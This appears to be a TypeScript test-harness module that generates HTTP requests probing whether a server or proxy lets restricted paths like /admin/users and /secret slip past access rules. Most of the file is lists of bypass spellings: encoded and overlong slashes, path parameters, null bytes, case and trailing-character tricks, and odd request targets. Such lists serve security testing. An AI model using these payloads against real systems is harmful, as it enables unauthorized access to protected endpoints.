// Spellings of restricted paths: what some server decodes, merges, cuts off or folds.
import { APP_HOST, type Attack, http1, type Limit, visible } from "./attack.ts";

const CASE_FOLDED: Limit = { what: "letter case" };
const TRAILING: Limit = { what: "trailing characters" };

/** Between two segments, or before the first. */
const SLASHES = [
  ...["//", "///", "/./", "/.//", "/%2e/", "/x/../", "/x/%2e%2e/", "/x/.%2e/", "/x/%2E./", "/x/y/../../"],
  ...[
    "%2f",
    "%2F",
    "/%2f",
    "%2f/",
    "/%2f%2f",
    "%252f",
    "%25%32%66",
    "%%32%66",
    "/x/..%2f",
    "/x%2f..%2f",
    "/x/%2e%2e%2f",
  ],
  ...["\\", "/\\", "\\/", "%5c", "%5C", "/%5c", "%255c", "/x/..\\", "/x\\..\\", "/x/..%5c", "/x%5c..%5c"],
  ...[
    "/;/",
    "/;x/",
    "/;x=1/",
    "/x;/../",
    "/x/..;/",
    "/x/..;y/",
    "/x/..;y=1/",
    "/.;/",
    "/%3b/",
    "/x/..%3b/",
    "/x/%2e%2e;/",
    "/x/;/../",
  ],
  ...["/..;/", "/../", "/..//", "/%2e%2e/", "/..%2f", "/.../", "/x/..../"],
  ...[
    "%c0%af",
    "%c1%9c",
    "%e0%80%af",
    "%f0%80%80%af",
    "%c0%2f",
    "%ef%bc%8f",
    "%e2%88%95",
    "%u2215",
    "%u002f",
    "%uff0f",
  ],
  ...[
    "/%00/",
    "%00/",
    "/\x00/",
    "/%09/",
    "/%0a/",
    "/%0d/",
    "/%0d%0a/",
    "/%20/",
    "/\t/",
    "/\x0b/",
    "/\x0c/",
    "/+/",
    "/%2b/",
    "/x%00/../",
  ],
  ...["\xc0\xaf", "\xef\xbc\x8f", "\xe0\x80\xaf", "/\x80/", "/\x85/", "/\xa0/", "/\xad/", "/\x7f/"],
  ...["/?/", "/#/", "/%3f/", "/%23/", "/x?/../", "/x%3f/../", "/x%23/../"],
];

/** Instead of the word `admin`. */
const WORDS = [
  ...[
    "%61dmin",
    "%61%64%6d%69%6e",
    "adm%69n",
    "%2561dmin",
    "%25%36%31dmin",
    "%u0061dmin",
    "\\u0061dmin",
    "%%361dmin",
  ],
  ...[
    "%c1%a1dmin",
    "%e0%81%a1dmin",
    "\xc1\xa1dmin",
    "adm%c4%b1n",
    "adm\xc4\xb1n",
    "%ef%bd%81dmin",
    "ad%cd%8fmin",
    "admi%cc%82n",
  ],
  ...[
    "admin;",
    "admin;x",
    "admin;x=y",
    "admin;/",
    "admin;jsessionid=1",
    "admin%3b",
    "admin%3bx",
    "admin;x;y",
    "admin;%2f",
  ],
  ...[
    "admin%00",
    "admin%00x",
    "%00admin",
    "admin%08",
    "admin%7f",
    "admin\x00",
    "admin\x08",
    "admin\x7f",
    "ad%00min",
    "ad\x00min",
    "adm%ad%69n",
  ],
  ...[
    "%0aadmin",
    "admin%0a",
    "%0dadmin",
    "admin%0d",
    "admin%0d%0a",
    "%09admin",
    "admin%09",
    "\tadmin",
    "admin\t",
    "admin\x0b",
    "admin\xa0",
  ],
  ...[
    "./admin",
    ".%2fadmin",
    "admin/.",
    "admin/x/..",
    "admin%2fx%2f..",
    "admin,x",
    "admin:x",
    "admin~",
    "admin*",
    "admin'",
    'admin"',
  ],
  ...["%fe%61dmin", "a\xaddmin", "%e2%80%8badmin", "admin%e2%80%8b", "admin%ef%bb%bf", "%ef%bb%bfadmin"],
];
const FOLDED_WORDS = ["ADMIN", "Admin", "aDMIN", "%41dmin", "%41%44%4d%49%4e"];
/** Windows and some frameworks drop these at the end of a segment. */
const TRAILING_WORDS = [
  "admin.",
  "admin..",
  "admin%2e",
  "admin%20",
  "%20admin",
  "admin+",
  "admin%2e%20",
  "admin::$DATA",
];

/** After the last segment. */
const ENDS = [
  ...[
    "/",
    "//",
    "/.",
    "/./",
    "/x/..",
    "/x/../",
    "/..;/users",
    "?",
    "??",
    "?x",
    "#",
    "#x",
    "#?x",
    "%23",
    "%3f",
    "%3fx",
    "%2f",
    "%5c",
    "\\",
  ],
  ...[
    ";",
    ";x",
    ";x=y",
    ";/",
    ";.json",
    "%3b",
    "%3bx",
    "/;",
    "/;x",
    "/.;",
    "/x/..;",
    "/x/..;/",
    "/x/..%2f",
    "/x%2f..",
    "/x%2f..%2f",
  ],
  ...[
    "%00",
    "%00.json",
    "\x00",
    "%0a",
    "%0d",
    "%0d%0a",
    "%09",
    "\t",
    "\x0b",
    "\x0c",
    "%08",
    "%7f",
    "\xa0",
    "%e2%80%8b",
    "/%20/..",
    "&x",
    "|",
    "~",
    "*",
  ],
];
/** Those whose normal form is a single slash: another path than an exact one. */
const SLASH_ALONE = ["/", "//", "/.", "/./", "/x/..", "/x/../", "/%20/.."];
const TRAILING_ENDS = [".", "..", "%2e", "%20", "%20%20", ".%20", "+", ".json", "::$DATA"];

/** Forms of the request target (RFC 9112, 3.2) and their neighbours; `PATH` is the restricted path. */
const TARGETS = [
  ...[
    "http://HOSTPATH",
    "HTTP://HOSTPATH",
    "https://HOSTPATH",
    "http://HOST:80PATH",
    "http://user@HOSTPATH",
    "http://user:x@HOST:80PATH",
  ],
  ...[
    "http://other.example.comPATH",
    "http://HOST.PATH",
    "http://HOST/xPATH",
    "http://HOST/x/..PATH",
    "http://HOST//xPATH/..",
  ],
  ...[
    "http://HOST\\PATH",
    "http://HOST?PATH",
    "http://HOST#PATH",
    "http://HOST;PATH",
    "http://HOST%2fPATH",
    "http://HOST /anyPATH",
  ],
  ...[
    "http:/PATH",
    "http:PATH",
    "http://PATH",
    "http:///xPATH",
    "http:////HOSTPATH",
    "http:\\\\HOSTPATH",
    "http://[::1]PATH",
    "http://[HOST]PATH",
  ],
  ...[
    "ftp://HOSTPATH",
    "ws://HOSTPATH",
    "file://PATH",
    "gopher://HOSTPATH",
    "x:PATH",
    "://HOSTPATH",
    "1http://HOSTPATH",
    "javascript:PATH",
  ],
  ...[
    "//HOSTPATH",
    "///HOSTPATH",
    "//xPATH",
    "//x@HOSTPATH",
    "/\\HOSTPATH",
    "\\\\HOSTPATH",
    "HOSTPATH",
    "HOST:80PATH",
    "xPATH",
    ".PATH",
    "..PATH",
    "~PATH",
  ],
  ...[
    "*",
    "*PATH",
    "/*PATH",
    "?PATH",
    "#PATH",
    ";PATH",
    "%PATH",
    "%2fPATH",
    "PATH PATH",
    "PATH\tx",
    "\tPATH",
    " PATH",
    "  PATH",
    "PATH ",
    "PATH  ",
    "\x0bPATH",
  ],
  ...[
    "/any#PATH",
    "/any?PATH",
    "/any#/..PATH",
    "/any?/..PATH",
    "/any%3f/..PATH",
    "/any%23/..PATH",
    "/any/..PATH",
    "/any\x00PATH",
    "/any%00PATH",
    "/any%00/..PATH",
  ],
  ...[
    "PATH%",
    "PATH%2",
    "PATH%zz",
    "PATH%2x",
    "/%zz/..PATH",
    "/%/..PATH",
    "PATH%ff",
    "PATH\xff",
    "/%ff/..PATH",
    "/xxxx%2e%2e/..PATH",
  ],
];

const RESTRICTED = ["/admin/users", "/team/list", "/secret", "/v1/private"];
/** One by prefix, one exact: for attacks that do not depend on how the route is written. */
const TWO = ["/admin/users", "/secret"];

export const paths: readonly Attack[] = unique([
  ...SLASHES.flatMap((slash) => [
    ...[`/admin${slash}users`, `${slash}admin/users`, `${slash}admin${slash}users`].map((target) =>
      path(target),
    ),
    ...[`${slash}secret`, `${slash}v1/private`, `/v1${slash}private`, `/team${slash}list`].map((target) =>
      path(target),
    ),
  ]),
  ...WORDS.map((word) => path(`/${word}/users`)),
  ...["secret", "team"].flatMap((word) =>
    WORDS.map((one) =>
      path(`/${one.replace("admin", word).replace("dmin", word.slice(1))}${word === "team" ? "/list" : ""}`),
    ),
  ),
  ...FOLDED_WORDS.map((word) => path(`/${word}/users`, CASE_FOLDED)),
  ...["/Secret", "/SECRET", "/V1/private", "/v1/Private", "/Team/list", "/admin/Users"].map((one) =>
    path(one, CASE_FOLDED),
  ),
  ...TRAILING_WORDS.map((word) => path(`/${word}/users`, TRAILING)),
  ...RESTRICTED.flatMap((one) =>
    ENDS.map((end) =>
      path(`${one}${end}`, one === "/secret" && SLASH_ALONE.includes(end) ? TRAILING : undefined),
    ),
  ),
  ...RESTRICTED.flatMap((one) => TRAILING_ENDS.map((end) => path(`${one}${end}`, TRAILING))),
  ...TWO.flatMap((one) =>
    TARGETS.map((target) => path(target.replaceAll("PATH", one).replaceAll("HOST", APP_HOST))),
  ),
]);

function path(target: string, leftToApplication?: Limit): Attack {
  const numbered = target.includes("?") ? `${target}&CASE` : `${target}?CASE`;
  return {
    kind: "path",
    name: `GET ${visible(target)}`,
    bytes: (id) => http1(id, { target: target === "*" ? target : numbered }),
    ...(leftToApplication === undefined ? {} : { leftToApplication }),
  };
}

function unique(attacks: readonly Attack[]): readonly Attack[] {
  return [...new Map(attacks.map((attack) => [attack.name, attack])).values()];
}
